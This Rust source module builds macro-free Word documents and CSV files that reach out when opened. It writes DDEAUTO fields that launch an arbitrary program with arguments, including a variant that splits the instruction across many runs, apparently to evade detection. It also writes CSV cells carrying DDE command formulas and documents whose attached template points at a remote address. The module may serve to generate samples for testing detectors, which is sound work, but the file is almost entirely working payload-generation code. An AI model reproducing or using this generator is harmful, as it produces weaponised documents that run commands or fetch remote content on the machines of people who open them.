//! Word documents without macros that still reach out: DDE fields and a template elsewhere; and CSV with DDE.

use crate::forge::Chance;
use crate::forge::document::ooxml::{HEAD, OFFICE, Package, escape, relationships};

const WORD: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const MAIN: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

/// How the instruction of a field is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Style {
    /// One attribute (`w:fldSimple`).
    DdeSimple,
    /// A complex field, its text in one run.
    DdeComplex,
    /// A complex field, its text cut into many runs.
    DdeRuns,
    /// A cell of a CSV file.
    DdeCell,
}

impl Style {
    /// All of them.
    pub const ALL: [Self; 4] = [Self::DdeSimple, Self::DdeComplex, Self::DdeRuns, Self::DdeCell];
}

/// A document with a DDE field that would start `program` with `arguments`; for [`Style::DdeCell`] a CSV file.
pub fn dde(style: Style, lines: &[String], program: &str, arguments: &str, chance: &mut Chance) -> Vec<u8> {
    let instruction = format!("DDEAUTO {} \"{arguments}\"", program.replace('\\', "\\\\"));
    let run =
        |text: &str| format!("<w:r><w:instrText xml:space=\"preserve\">{}</w:instrText></w:r>", escape(text));
    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
    let runs = match style {
        Style::DdeSimple => {
            format!("<w:fldSimple w:instr=\"{}\"><w:r><w:t>0</w:t></w:r></w:fldSimple>", escape(&instruction))
        }
        Style::DdeComplex => mark("begin") + &run(&instruction) + &mark("end"),
        Style::DdeRuns => {
            let pieces: String = chance.cut(&instruction, 1, 9).iter().map(|piece| run(piece)).collect();
            mark("begin") + &pieces + &mark("separate") + &mark("end")
        }
        Style::DdeCell => {
            let name = program.rsplit('\\').next().unwrap_or(program).trim_end_matches(".exe");
            let rows: String = lines.iter().map(|line| format!("1,{line},\r\n")).collect();
            return format!("No,Item,Note\r\n{rows}2,={name}|' {arguments}'!A0,\r\n").into_bytes();
        }
    };
    let mut package = Package::default();
    package.part("word/document.xml", MAIN, body(lines, &format!("<w:p>{runs}</w:p>")));
    package.write("word/document.xml", chance)
}

/// A document whose template lies at an address.
pub fn remote_template(lines: &[String], url: &str, chance: &mut Chance) -> Vec<u8> {
    let mut package = Package::default();
    package.part("word/document.xml", MAIN, body(lines, ""));
    let settings = format!(
        "{HEAD}<w:settings xmlns:w=\"{WORD}\" xmlns:r=\"{OFFICE}\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>"
    );
    let kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml";
    package.part("word/settings.xml", kind, settings);
    let link = relationships(&[(format!("{OFFICE}/attachedTemplate"), format!("!{url}"))]);
    package.part("word/_rels/settings.xml.rels", "", link);
    package.links.push((format!("{OFFICE}/settings"), "settings.xml".to_owned()));
    package.write("word/document.xml", chance)
}

fn body(lines: &[String], last: &str) -> String {
    let paragraphs: String = lines
        .iter()
        .map(|line| format!("<w:p><w:r><w:t xml:space=\"preserve\">{}</w:t></w:r></w:p>", escape(line)))
        .collect();
    format!("{HEAD}<w:document xmlns:w=\"{WORD}\"><w:body>{paragraphs}{last}</w:body></w:document>")
}
